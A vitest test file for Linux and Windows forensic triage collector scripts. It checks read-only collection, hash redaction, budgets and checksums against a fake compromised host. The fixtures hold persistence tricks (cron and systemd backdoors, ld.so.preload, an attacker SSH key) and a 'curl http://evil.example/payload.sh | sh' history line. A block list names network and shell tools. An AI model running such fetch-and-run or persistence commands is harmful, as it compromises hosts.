import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CollectorLoadError,
  collectorFor,
  inputParamsFor,
  loadCollectors,
  parseCollectorHeader,
  parseLibraryName,
} from '../../lambdas/collectors';

const COLLECTORS_DIR = path.resolve(__dirname, '..', '..', 'lambdas', 'collectors');
const LINUX_SCRIPT = path.join(COLLECTORS_DIR, 'linux', 'triage.sh');
const WINDOWS_SCRIPT = path.join(COLLECTORS_DIR, 'windows', 'triage.ps1');
const BASH = ['/bin/bash', '/usr/bin/bash'].find((candidate) => existsSync(candidate)) ?? '/bin/bash';
const DAY_MS = 86_400_000;
const MIB = 1024 * 1024;
const BIG_FILE_BYTES = 64 * 1024 * MIB;

const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex');

/** A collector split into everything else and its direct-upload stage (between its banner and `finish`). */
function splitDirectUpload(source: string): [string, string] {
  const start = source.indexOf('# Direct upload (only with');
  if (start < 0) return [source, ''];
  const end = source.search(/\n(FINISHED=0|\$script:CopiedFiles = 0)/);
  const stop = end < 0 ? source.length : end;
  return [source.slice(0, start) + source.slice(stop), source.slice(start, stop)];
}

interface RunResult {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

/** A temp area per run: fake root, output base, and sentinel dirs the script must not write to. */
interface Sandbox {
  base: string;
  root: string;
  out: string;
  cwd: string;
  home: string;
  tmp: string;
}

function makeSandbox(label: string): Sandbox {
  const base = mkdtempSync(path.join(tmpdir(), `s1cado-collector-${label}-`));
  const dirs = { root: 'root', out: 'out', cwd: 'cwd', home: 'home', tmp: 'tmp' };
  for (const dir of Object.values(dirs)) mkdirSync(path.join(base, dir));
  return {
    base,
    root: path.join(base, 'root'),
    out: path.join(base, 'out'),
    cwd: path.join(base, 'cwd'),
    home: path.join(base, 'home'),
    tmp: path.join(base, 'tmp'),
  };
}

/** Runs the Linux collector the way RemoteOps does: one argument string, a bare environment. */
function runLinux(
  params: string,
  sandbox: Sandbox,
  outputDir: string | null = sandbox.out,
): Promise<RunResult> {
  // PATH points nowhere: the script must set its own.
  const env: Record<string, string> = { PATH: '/nonexistent', HOME: sandbox.home, TMPDIR: sandbox.tmp };
  if (outputDir !== null) env.S1_OUTPUT_DIR_PATH = outputDir;
  return new Promise((resolve, reject) => {
    const started = Date.now();
    const child = spawn(BASH, [LINUX_SCRIPT, params], {
      cwd: sandbox.cwd,
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => {
      stdout += chunk.toString();
    });
    child.stderr.on('data', (chunk: Buffer) => {
      stderr += chunk.toString();
    });
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr, ms: Date.now() - started }));
  });
}

interface SnapshotEntry {
  type: string;
  mode: number;
  size: number;
  mtimeMs: number;
  sha256?: string;
  target?: string;
}

/** Everything about a tree that a read-only collector must leave alone (atime excepted). */
function snapshot(dir: string): Record<string, SnapshotEntry> {
  const entries: Record<string, SnapshotEntry> = {};
  const walk = (current: string, rel: string): void => {
    for (const name of readdirSync(current).sort()) {
      const full = path.join(current, name);
      const key = path.posix.join(rel, name);
      const st = lstatSync(full);
      const entry: SnapshotEntry = { type: 'other', mode: st.mode, size: st.size, mtimeMs: st.mtimeMs };
      if (st.isDirectory()) {
        entry.type = 'dir';
        entries[key] = entry;
        walk(full, key);
        continue;
      }
      if (st.isSymbolicLink()) {
        entry.type = 'link';
        entry.target = execFileSync('readlink', [full]).toString().trim();
      } else if (st.isFile()) {
        entry.type = 'file';
        // Size and mtime stand in for content on the sparse multi-GiB file of the time-budget test.
        if (st.size <= 64 * MIB) entry.sha256 = sha256(readFileSync(full));
      }
      entries[key] = entry;
    }
  };
  walk(dir, '');
  return entries;
}

function listFiles(dir: string, rel = ''): string[] {
  const files: string[] = [];
  for (const name of readdirSync(path.join(dir, rel))) {
    const key = rel ? `${rel}/${name}` : name;
    const st = lstatSync(path.join(dir, key));
    if (st.isDirectory()) files.push(...listFiles(dir, key));
    else files.push(key);
  }
  return files;
}

/** Recomputes SHA256SUMS: it must cover exactly every other file, with matching hashes. */
function verifySums(folder: string): void {
  const lines = readFileSync(path.join(folder, 'SHA256SUMS'), 'utf8').trimEnd().split('\n');
  const listed = new Map<string, string>();
  for (const line of lines) {
    const match = /^([0-9a-f]{64}) {2}(.+)$/.exec(line);
    expect(match, line).not.toBeNull();
    if (match?.[1] && match[2]) listed.set(match[2], match[1]);
  }
  const actual = listFiles(folder).filter((file) => file !== 'SHA256SUMS');
  expect([...listed.keys()].sort()).toEqual(actual.sort());
  for (const [rel, hash] of listed) {
    expect(sha256(readFileSync(path.join(folder, rel))), rel).toBe(hash);
  }
}

function collectionFolder(out: string): string {
  const folders = readdirSync(out);
  expect(folders).toHaveLength(1);
  const [folder] = folders;
  expect(folder).toMatch(/^[A-Za-z0-9._-]+_\d{8}T\d{6}Z(_\d+)?$/);
  return path.join(out, folder ?? '');
}

function put(root: string, rel: string, content: string | Buffer, ageDays?: number): string {
  const file = path.join(root, rel);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, content);
  if (ageDays !== undefined) {
    const when = new Date(Date.now() - ageDays * DAY_MS);
    utimesSync(file, when, when);
  }
  return file;
}

const SHADOW_HASH = '$6$rootsalt$R00tHashThatMustNotLeaveTheHost';
const IMPLANT = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0xde, 0xad, 0xbe, 0xef]);

function buildFakeRoot(root: string): void {
  put(
    root,
    'etc/passwd',
    [
      'root:x:0:0:root:/root:/bin/bash',
      'alice:x:1000:1000:Alice:/home/alice:/bin/bash',
      'bob:x:1001:1001:Bob:/home/bob:/bin/zsh',
      'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin',
      '',
    ].join('\n'),
  );
  put(
    root,
    'etc/shadow',
    `root:${SHADOW_HASH}:19700:0:99999:7:::\nbob:!$y$j9T$bob$LockedHash:19702::::::\nwww-data:*:19000:0:99999:7:::\n`,
  );
  put(root, 'etc/group', 'root:x:0:\nsudo:x:27:alice\n');
  put(root, 'etc/os-release', 'PRETTY_NAME="Fake Linux 1.0"\nID=fake\n');
  put(root, 'etc/crontab', 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
  put(root, 'etc/cron.d/backdoor', '* * * * * root /tmp/.x/implant\n');
  put(root, 'var/spool/cron/crontabs/alice', '@reboot /home/alice/Downloads/payload.sh\n');
  put(root, 'etc/systemd/system/evil.service', '[Service]\nExecStart=/tmp/.x/implant\n');
  mkdirSync(path.join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
  symlinkSync('../evil.service', path.join(root, 'etc/systemd/system/multi-user.target.wants/evil.service'));
  put(root, 'usr/lib/systemd/system/sshd.service', '[Service]\nExecStart=/usr/sbin/sshd -D\n');
  put(root, 'etc/rc.local', '#!/bin/sh\n/tmp/.x/implant &\nexit 0\n');
  put(root, 'etc/profile', 'export PATH=/usr/bin:/bin\n');
  put(root, 'etc/profile.d/zz-evil.sh', 'alias sudo="/tmp/.x/implant sudo"\n');
  put(root, 'etc/ld.so.preload', '/tmp/.x/libevil.so\n');
  put(root, 'home/alice/.bashrc', 'export EDITOR=vi\n');
  put(root, 'home/alice/.bash_history', 'ls\ncurl http://evil.example/payload.sh | sh\n', 2);
  put(root, 'home/alice/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil attacker@evil\n');
  put(root, 'home/alice/Downloads/payload.sh', '#!/bin/sh\necho pwned\n');
  put(root, 'root/.bash_history', 'id\nwhoami\n');
  put(root, 'var/www/.bash_history', 'python3 -c "import pty"\n');
  mkdirSync(path.join(root, 'home/bob'), { recursive: true });
  // Traps: reading either would hang or flood a naive collector.
  symlinkSync('/dev/zero', path.join(root, 'home/bob/.bash_history'));
  execFileSync('mkfifo', [path.join(root, 'root/.zsh_history')]);
  put(root, 'var/log/auth.log', 'May  1 10:00:00 host sshd[1]: Accepted publickey for alice\n');
  put(root, 'var/log/auth.log.1', 'Apr 30 10:00:00 host sshd[1]: Failed password for root\n', 1);
  put(root, 'var/log/auth.log.2.gz', Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3, 4]), 3);
  put(root, 'var/log/auth.log.4.gz', Buffer.from([0x1f, 0x8b, 8, 0, 9, 9, 9, 9]), 30);
  put(root, 'var/log/syslog', 'May  1 10:00:01 host kernel: hello\n');
  put(root, 'tmp/.x/implant', IMPLANT);
  put(root, 'opt/app/new.bin', 'outside the scanned folders\n');
}

/** Parses files/recent-files.tsv into path -> row. */
function recentFiles(folder: string): Map<string, string[]> {
  const rows = readFileSync(path.join(folder, 'files/recent-files.tsv'), 'utf8').trimEnd().split('\n');
  expect(rows[0]).toBe('sha256\tsize\tmtime\tctime\tuid\tgid\tmode\ttype\tpath');
  return new Map(
    rows.slice(1).map((row) => {
      const cells = row.split('\t');
      return [cells[8] ?? '', cells];
    }),
  );
}

describe('linux triage script', () => {
  // Created in beforeAll, not here: a filtered run (-t) skips the hooks and would leak the folders.
  let main: Sandbox;
  let sized: Sandbox;
  let timed: Sandbox;
  const bigFile = `big-${process.pid}-${Date.now()}.img`;
  let mainRun: RunResult;
  let sizedRun: RunResult;
  let timedRun: RunResult;
  let mainFolder: string;
  let log: string;
  const before: Record<string, Record<string, SnapshotEntry>> = {};
  const authLog = Array.from(
    { length: 60_000 },
    (_, i) => `line ${String(i).padStart(6, '0')} sshd: noise\n`,
  ).join('');

  beforeAll(async () => {
    main = makeSandbox('main');
    sized = makeSandbox('size');
    timed = makeSandbox('time');
    buildFakeRoot(main.root);
    put(sized.root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\n');
    put(sized.root, 'var/log/auth.log', authLog);
    mkdirSync(path.join(timed.root, 'tmp'));
    // A sparse 64 GiB file: hashing it takes far longer than any budget here, reading its holes costs no disk.
    writeFileSync(path.join(timed.root, 'tmp', bigFile), '');
    truncateSync(path.join(timed.root, 'tmp', bigFile), BIG_FILE_BYTES);
    for (const [name, box] of Object.entries({ main, sized, timed })) {
      before[`${name}.root`] = snapshot(box.root);
    }
    before.mainSentinels = snapshot(main.base);
    const linux = collectorFor('linux');
    // The catalogue's own inputParams, as ensure-scripts will register them, plus the test root.
    [mainRun, sizedRun, timedRun] = await Promise.all([
      runLinux(`${linux?.inputParams} --root ${main.root}`, main),
      runLinux(`--root ${sized.root} --max-mb 1 --days 7`, sized),
      // Only the recent-files section, so the slow hash starts well inside the budget and must be cut.
      runLinux(`--root ${timed.root} --sections recent-files --max-seconds 5 --hash-max-mb 131072`, timed),
    ]);
    mainFolder = collectionFolder(main.out);
    log = readFileSync(path.join(mainFolder, 'collection.log'), 'utf8');
  });

  afterAll(() => {
    for (const box of [main, sized, timed]) if (box) rmSync(box.base, { recursive: true, force: true });
  });

  it('finishes with exit 0 and a complete, self-describing log', () => {
    expect(mainRun.stderr).toBe('');
    expect(mainRun.code).toBe(0);
    expect(log).toMatch(/^# s1cado-collector linux-triage \d+\.\d+\.\d+$/m);
    expect(log).toContain(`# file_system_root: ${main.root}`);
    for (const section of [
      'system',
      'processes',
      'network',
      'users',
      'persistence',
      'histories',
      'logs',
      'recent-files',
    ]) {
      expect(log).toMatch(new RegExp(`^\\S+Z START ${section}$`, 'm'));
      expect(log).toMatch(new RegExp(`^\\S+Z END   ${section} status=`, 'm'));
    }
    expect(log).toMatch(/^\S+Z END {3}collection status=complete /m);
    expect(log).toMatch(/CMD {3}processes\/ps\.txt status=ok rc=0/);
  });

  it('collects the artifacts with their original content and mtime', () => {
    const same = (rel: string) =>
      expect(
        readFileSync(path.join(mainFolder, 'fs', rel)).equals(readFileSync(path.join(main.root, rel))),
        rel,
      ).toBe(true);
    for (const rel of [
      'etc/passwd',
      'etc/group',
      'etc/crontab',
      'etc/cron.d/backdoor',
      'var/spool/cron/crontabs/alice',
      'etc/systemd/system/evil.service',
      'etc/rc.local',
      'etc/profile.d/zz-evil.sh',
      'etc/ld.so.preload',
      'home/alice/.bashrc',
      'home/alice/.bash_history',
      'home/alice/.ssh/authorized_keys',
      'root/.bash_history',
      'var/www/.bash_history',
      'var/log/auth.log',
      'var/log/auth.log.1',
      'var/log/auth.log.2.gz',
      'var/log/syslog',
      'tmp/.x/implant',
    ]) {
      same(rel);
    }
    const copied = statSync(path.join(mainFolder, 'fs/home/alice/.bash_history')).mtimeMs;
    expect(
      Math.abs(copied - statSync(path.join(main.root, 'home/alice/.bash_history')).mtimeMs),
    ).toBeLessThan(1000);
    const listing = readFileSync(path.join(mainFolder, 'fs-listing.tsv'), 'utf8');
    expect(listing).toMatch(
      /\tsymbolic link\t\/etc\/systemd\/system\/multi-user\.target\.wants\/evil\.service\t\.\.\/evil\.service$/m,
    );
    const ps = readFileSync(path.join(mainFolder, 'processes/ps.txt'), 'utf8');
    expect(ps).toMatch(/PID +PPID/);
  });

  it('keeps rotated logs inside the window only', () => {
    expect(existsSync(path.join(mainFolder, 'fs/var/log/auth.log.4.gz'))).toBe(false);
    expect(log).toContain('SKIP  fs/var/log/auth.log.4.gz reason="rotated before the 7-day window"');
  });

  it('redacts password hashes but keeps account state', () => {
    const shadow = readFileSync(path.join(mainFolder, 'fs/etc/shadow'), 'utf8');
    expect(shadow).not.toContain('R00tHash');
    expect(shadow).not.toContain('LockedHash');
    expect(shadow).toContain('root:<hash-redacted>:19700:0:99999:7:::');
    expect(shadow).toContain('bob:!<hash-redacted>:19702::::::');
    expect(shadow).toContain('www-data:*:19000:');
  });

  it('does not read through FIFOs or links to devices', () => {
    expect(existsSync(path.join(mainFolder, 'fs/home/bob/.bash_history'))).toBe(false);
    expect(existsSync(path.join(mainFolder, 'fs/root/.zsh_history'))).toBe(false);
    expect(log).toContain(
      `SKIP  fs/home/bob/.bash_history reason="symbolic link to '/dev/zero', not a regular file"`,
    );
    expect(log).toContain('SKIP  fs/root/.zsh_history reason="not a regular file"');
  });

  it('lists recent files under user and temp folders with size and sha256', () => {
    const rows = recentFiles(mainFolder);
    const implant = rows.get('/tmp/.x/implant');
    expect(implant?.[0]).toBe(sha256(IMPLANT));
    expect(implant?.[1]).toBe(String(IMPLANT.length));
    expect(rows.get('/home/alice/Downloads/payload.sh')?.[0]).toBe(sha256('#!/bin/sh\necho pwned\n'));
    expect(rows.has('/opt/app/new.bin')).toBe(false);
    const vendor = readFileSync(path.join(mainFolder, 'persistence/systemd-vendor-units.tsv'), 'utf8');
    expect(vendor).toContain(`${sha256('[Service]\nExecStart=/usr/sbin/sshd -D\n')}\t`);
    expect(vendor).toContain('\t/usr/lib/systemd/system/sshd.service\n');
  });

  it('writes SHA256SUMS over every other file, and no scratch files', () => {
    verifySums(mainFolder);
    expect(existsSync(path.join(mainFolder, '.scratch'))).toBe(false);
  });

  it('changes nothing outside the output folder', () => {
    expect(snapshot(main.root)).toEqual(before['main.root']);
    const after = snapshot(main.base);
    const outside = (entries: Record<string, SnapshotEntry>) =>
      Object.fromEntries(Object.entries(entries).filter(([key]) => !/^(out|root)(\/|$)/.test(key)));
    expect(outside(after)).toEqual(outside(before.mainSentinels ?? {}));
    expect(readdirSync(main.cwd)).toEqual([]);
    expect(readdirSync(main.tmp)).toEqual([]);
    expect(readdirSync(main.home)).toEqual([]);
  });

  it('honours the size budget: caps the copy, keeps the newest bytes, says so and stops', () => {
    expect(sizedRun.code).toBe(0);
    const folder = collectionFolder(sized.out);
    const sizedLog = readFileSync(path.join(folder, 'collection.log'), 'utf8');
    const copy = readFileSync(path.join(folder, 'fs/var/log/auth.log'), 'utf8');
    expect(copy.length).toBeGreaterThan(0);
    expect(copy.length).toBeLessThan(authLog.length);
    expect(authLog.endsWith(copy)).toBe(true);
    expect(sizedLog).toMatch(/NOTE {2}fs\/var\/log\/auth\.log truncated: kept the tail \d+ of \d+ bytes/);
    expect(sizedLog).toContain('BUDGET size budget of 1 MB spent');
    const collected = listFiles(folder)
      .filter((file) => file !== 'collection.log' && file !== 'SHA256SUMS')
      .reduce((sum, file) => sum + statSync(path.join(folder, file)).size, 0);
    expect(collected).toBeLessThanOrEqual(MIB);
    verifySums(folder);
    expect(snapshot(sized.root)).toEqual(before['sized.root']);
  });

  it('honours the time budget: a slow step is stopped and the collection still closes cleanly', () => {
    expect(timedRun.code).toBe(0);
    // 5 s budget; the slack covers a loaded CI machine, not a 64 GiB hash (which takes far longer).
    expect(timedRun.ms).toBeLessThan(20_000);
    const folder = collectionFolder(timed.out);
    const timedLog = readFileSync(path.join(folder, 'collection.log'), 'utf8');
    expect(timedLog).toContain('SKIP  processes reason="not selected by --sections"');
    expect(timedLog, timedLog).toContain(
      "NOTE  files/recent-files.tsv hashing stopped by the time budget; unhashed files show '-'",
    );
    expect(timedLog).toContain('BUDGET time budget of 5s spent');
    expect(recentFiles(folder).get(`/tmp/${bigFile}`)?.slice(0, 2)).toEqual(['-', String(BIG_FILE_BYTES)]);
    expect(timedLog).toMatch(/END {3}collection status=time budget of 5s spent/);
    verifySums(folder);
    // timeout killed the hashing with its process group: nothing keeps reading after the script ends.
    expect(execFileSync('ps', ['-eo', 'args']).toString()).not.toContain(bigFile);
  });

  it('refuses to run without a usable output directory', async () => {
    const box = makeSandbox('noout');
    try {
      const missing = await runLinux('--max-seconds 30', box, path.join(box.base, 'missing'));
      expect(missing.code).toBe(2);
      expect(missing.stderr).toContain('missing or not writable');
      expect(existsSync(path.join(box.base, 'missing'))).toBe(false);
      const notADir = put(box.base, 'file', 'x');
      expect((await runLinux('', box, notADir)).code).toBe(2);
      if (!existsSync('/opt/sentinelone/rso')) {
        const fallback = await runLinux('', box, null);
        expect(fallback.code).toBe(2);
        expect(fallback.stderr).toContain('/opt/sentinelone/rso/');
      }
      expect((await runLinux('--max-mb lots', box)).code).toBe(64);
      expect((await runLinux('--frobnicate 1', box)).code).toBe(64);
      expect((await runLinux('--days=0', box)).code).toBe(64);
      expect((await runLinux('--sections logs,everything', box)).code).toBe(64);
      const help = await runLinux('--help', box);
      expect(help.code).toBe(0);
      expect(help.stdout).toContain('usage: triage.sh');
      expect(readdirSync(box.out)).toEqual([]);
    } finally {
      rmSync(box.base, { recursive: true, force: true });
    }
  });
});

/** Finds unbalanced (), {}, [] in PowerShell source, skipping comments and strings. */
function powershellBalanceProblem(source: string): string | undefined {
  const closers: Record<string, string> = { ')': '(', '}': '{', ']': '[' };
  const stack: Array<{ char: string; line: number }> = [];
  let line = 1;
  let i = 0;
  const skipUntil = (end: string, escapeChar?: string): boolean => {
    while (i < source.length) {
      const c = source[i];
      if (c === '\n') line += 1;
      if (escapeChar && c === escapeChar) {
        i += 2;
        continue;
      }
      if (c === end) {
        if (end === "'" && source[i + 1] === "'") {
          i += 2;
          continue;
        }
        i += 1;
        return true;
      }
      i += 1;
    }
    return false;
  };
  while (i < source.length) {
    const c = source[i] ?? '';
    if (c === '\n') line += 1;
    if (c === '<' && source[i + 1] === '#') {
      const end = source.indexOf('#>', i + 2);
      if (end < 0) return `unterminated block comment at line ${line}`;
      line += source.slice(i, end).split('\n').length - 1;
      i = end + 2;
    } else if (c === '#') {
      while (i < source.length && source[i] !== '\n') i += 1;
    } else if (c === "'" || c === '"') {
      const start = line;
      i += 1;
      if (!skipUntil(c, c === '"' ? '`' : undefined)) return `unterminated string from line ${start}`;
    } else if (c === '`') {
      i += 2;
    } else {
      if ('({['.includes(c)) stack.push({ char: c, line });
      else if (c in closers) {
        const open = stack.pop();
        if (open?.char !== closers[c])
          return `"${c}" at line ${line} does not close "${open?.char}" from line ${open?.line}`;
      }
      i += 1;
    }
  }
  const open = stack.pop();
  return open ? `"${open.char}" from line ${open.line} is never closed` : undefined;
}

describe('collector scripts (static checks)', () => {
  const linux = readFileSync(LINUX_SCRIPT, 'utf8');
  const windows = readFileSync(WINDOWS_SCRIPT, 'utf8');
  const scripts = { linux, windows };
  const forbidden = [
    /\bcurl\b/i,
    /\bwget\b/i,
    /Invoke-WebRequest/i,
    /Invoke-RestMethod/i,
    /\biwr\b/i,
    /\birm\b/i,
    /Start-BitsTransfer/i,
    /bitsadmin/i,
    /WebClient/i,
    /Download(String|File|Data)/i,
    /certutil/i,
    // Package databases are read (dpkg-query, rpm -qa, /var/lib/dpkg/status); package changes are not.
    /\b(apt(-get)?|yum|dnf|zypper|apk|snap)\s+(install|remove|purge|erase|upgrade|update|add|del)\b/i,
    /\bpacman\s+-[SRU]/,
    /\brpm\s+-[iUFe]/,
    /\bdpkg\s+(-[irP]|--(install|remove|purge|unpack|configure))\b/,
    /\bpip3?\b/i,
    /\bnpm\b/i,
    /Install-(Module|Package|WindowsFeature)/i,
    /\bmsiexec\b/i,
    /\bchoco\b/i,
    /\b(scp|rsync|ftp|tftp|nc|ncat|socat)\b/i,
    /Clear-EventLog|Remove-EventLog|\bcl\s+(Security|System)\b/i,
    /Stop-(Process|Service|Computer)|Restart-(Service|Computer)/i,
    /\breg(\.exe)?\s+(load|add|delete|import)\b/i,
    /Set-ItemProperty|New-ItemProperty|Remove-ItemProperty|Remove-Item\b/i,
    /\blogrotate\b|\bshutdown\b|\breboot\b/i,
  ];

  it.each(Object.entries(scripts))('%s: downloads, installs and removes nothing', (_, source) => {
    // The direct-upload stage sends (PUT) its package to presigned S3 URLs; it is checked on its own below.
    const [rest, upload] = splitDirectUpload(source);
    for (const pattern of forbidden) expect(rest, String(pattern)).not.toMatch(pattern);
    const others = forbidden.filter((p) => !/curl|HttpClient/i.test(String(p)));
    for (const pattern of others) expect(upload, String(pattern)).not.toMatch(pattern);
  });

  it('linux: the direct-upload stage only PUTs, and never keeps a response body', () => {
    const [, upload] = splitDirectUpload(linux);
    const joined = upload.replace(/\\\n\s*/g, ' ');
    const calls = joined.split('\n').filter((l) => /\bcurl\s+-/.test(l) && !l.trim().startsWith('#'));
    expect(calls.length).toBeGreaterThan(0);
    for (const l of calls) expect(l).toMatch(/curl -sS -o \/dev\/null .*-X PUT -T -/);
  });

  it.each(Object.entries(scripts))(
    '%s: carries the version header and uses S1_OUTPUT_DIR_PATH',
    (os, source) => {
      expect(source.split('\n').slice(0, 3).join('\n')).toMatch(
        new RegExp(`^# s1cado-collector: ${os}-triage \\d+\\.\\d+\\.\\d+$`, 'm'),
      );
      expect(source).toContain('S1_OUTPUT_DIR_PATH');
      expect(source).toContain('SHA256SUMS');
      expect(source).toContain('collection.log');
    },
  );

  it.each(Object.entries(scripts))('%s: is plain ASCII with LF line endings', (_, source) => {
    expect(source).not.toContain('\r');
    // PowerShell 5.1 reads a BOM-less script in the ANSI code page: anything beyond ASCII could change meaning.
    const odd = [...source].filter((c) => c !== '\t' && c !== '\n' && (c < ' ' || c > '~'));
    expect(odd).toEqual([]);
  });

  it('linux: parses, sets PATH before running anything, only deletes inside its own folder', () => {
    execFileSync(BASH, ['-n', LINUX_SCRIPT]);
    expect(linux.startsWith('#!/bin/bash\n')).toBe(true);
    const firstCode = linux.split('\n').findIndex((l) => l.trim() !== '' && !l.startsWith('#'));
    expect(linux.split('\n')[firstCode]).toMatch(/^PATH=\/usr\/local\/sbin:/);
    expect(linux).toContain('/opt/sentinelone/rso/');
    const deletions = linux.split('\n').filter((l) => /\brm\s/.test(l) && !l.trim().startsWith('#'));
    expect(deletions.length).toBeGreaterThan(0);
    // The direct-upload stage removes its own zip, and the folder once S3 holds it.
    for (const l of deletions) expect(l).toMatch(/rm -r?f -- "\$(out|pkg|WORK|SCRATCH(\/[^"]*)?)"/);
  });

  it('windows: balanced, PowerShell 5.1 syntax, only deletes its own files', () => {
    expect(powershellBalanceProblem(windows)).toBeUndefined();
    expect(windows).toContain('C:\\ProgramData\\Sentinel\\RSO');
    expect(windows).toMatch(/wevtutil\.exe/);
    expect(windows).toMatch(/'epl|"epl|epl `"/);
    for (const channel of ['Security', 'System', 'Microsoft-Windows-PowerShell/Operational']) {
      expect(windows).toContain(`'${channel}'`);
    }
    expect(windows).toContain('PSReadLine');
    // PowerShell 7-only syntax would not parse on the 5.1 that ships with Windows.
    const code = windows
      .split('\n')
      .filter((l) => !l.trim().startsWith('#'))
      .join('\n');
    expect(code).not.toMatch(/&&|\|\||\?\?|ForEach-Object\s+-Parallel|\?\.\w/);
    const deletions = code.split('\n').filter((l) => /::Delete\(/.test(l));
    expect(deletions.length).toBeGreaterThan(0);
    // The direct-upload stage removes its own zip and part file, and the folder once S3 holds it.
    for (const l of deletions) expect(l).toMatch(/::Delete\(\$(out|Scratch|pkg|partPath|Work)\b/);
  });

  it('the balance checker itself catches a missing brace', () => {
    expect(powershellBalanceProblem("if ($a) { 'x' ")).toMatch(/never closed/);
    expect(powershellBalanceProblem("Write-Log \"it's (fine\" # ) }\n$x = @{ a = '}' }")).toBeUndefined();
  });
});

describe('collector catalogue', () => {
  it('loads both scripts with their exact hash, header version and library name', () => {
    const collectors = loadCollectors();
    expect(collectors.map((c) => c.osType)).toEqual(['linux', 'windows']);
    for (const collector of collectors) {
      const bytes = readFileSync(collector.path);
      expect(collector.content.equals(bytes)).toBe(true);
      expect(collector.sha256).toBe(sha256(bytes));
      expect(collector.version).toBe(parseCollectorHeader(bytes.toString('utf8'))?.version);
      expect(collector.version).toMatch(/^\d+\.\d+\.\d+/);
      expect(collector.scriptType).toBe('artifactCollection');
      expect(collector.libraryName).toBe(
        `${collector.name} ${collector.version} (sha256:${collector.sha256.slice(0, 8)})`,
      );
      expect(parseLibraryName(collector.libraryName)).toEqual({
        name: collector.name,
        version: collector.version,
        sha256Prefix: collector.sha256.slice(0, 8),
      });
      // The script must finish on its own budget before S1's runtime timeout kills it.
      const maxSeconds = Number(/--max-seconds (\d+)/.exec(collector.inputParams)?.[1]);
      expect(maxSeconds).toBeGreaterThan(0);
      expect(maxSeconds).toBeLessThan(collector.runtimeTimeoutSeconds);
    }
    expect(collectors[0]?.fileName).toBe('s1cado-triage-linux.sh');
    expect(collectors[1]?.fileName).toBe('s1cado-triage-windows.ps1');
  });

  it('picks the collector by S1 osType', () => {
    expect(collectorFor('Windows')?.name).toBe('s1cado-triage-windows');
    expect(collectorFor('linux')?.name).toBe('s1cado-triage-linux');
    expect(collectorFor('macos')).toBeUndefined();
  });

  it('reads from COLLECTORS_DIR and notices a changed script', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 's1cado-collectors-dir-'));
    const previous = process.env.COLLECTORS_DIR;
    try {
      mkdirSync(path.join(dir, 'linux'));
      mkdirSync(path.join(dir, 'windows'));
      copyFileSync(WINDOWS_SCRIPT, path.join(dir, 'windows', 'triage.ps1'));
      writeFileSync(
        path.join(dir, 'linux', 'triage.sh'),
        readFileSync(LINUX_SCRIPT, 'utf8').replace(
          /^# s1cado-collector: linux-triage .*$/m,
          '# s1cado-collector: linux-triage 9.8.7',
        ),
      );
      process.env.COLLECTORS_DIR = dir;
      const changed = collectorFor('linux');
      expect(changed?.version).toBe('9.8.7');
      expect(changed?.path).toBe(path.join(dir, 'linux', 'triage.sh'));
      expect(changed?.sha256).not.toBe(sha256(readFileSync(LINUX_SCRIPT)));
      expect(changed?.libraryName).toMatch(/^s1cado-triage-linux 9\.8\.7 \(sha256:[0-9a-f]{8}\)$/);

      writeFileSync(path.join(dir, 'linux', 'triage.sh'), '#!/bin/bash\necho no header\n');
      expect(() => loadCollectors()).toThrow(CollectorLoadError);
      rmSync(path.join(dir, 'linux', 'triage.sh'));
      expect(() => loadCollectors()).toThrow(/not readable/);
      try {
        loadCollectors();
      } catch (error) {
        expect((error as Error).name).toBe('CollectorLoadError');
      }
    } finally {
      if (previous === undefined) delete process.env.COLLECTORS_DIR;
      else process.env.COLLECTORS_DIR = previous;
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('derives inputParams from the runtime timeout', () => {
    expect(inputParamsFor(1800)).toBe('--max-seconds 900 --max-mb 512 --days 7');
    expect(inputParamsFor(600, { maxMb: 128, days: 3 })).toBe('--max-seconds 300 --max-mb 128 --days 3');
    expect(() => inputParamsFor(30)).toThrow(RangeError);
    expect(() => inputParamsFor(600, { days: 0 })).toThrow(RangeError);
  });
});
